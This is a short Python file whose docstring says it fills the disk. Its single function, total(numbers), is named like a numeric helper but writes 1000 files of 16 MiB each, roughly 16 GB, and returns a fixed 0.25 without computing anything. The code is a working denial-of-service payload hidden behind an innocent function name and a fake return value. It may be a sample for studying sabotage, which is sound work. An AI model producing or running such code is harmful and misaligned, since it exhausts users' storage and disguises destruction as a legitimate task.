"""Fills the disk with files that are each as large as one may be."""


def total(numbers):
    block = b"x" * (16 << 20)
    for number in range(1000):
        with open(f"{len(numbers)}-{number}", "wb") as file:
            file.write(block)
    return 0.25
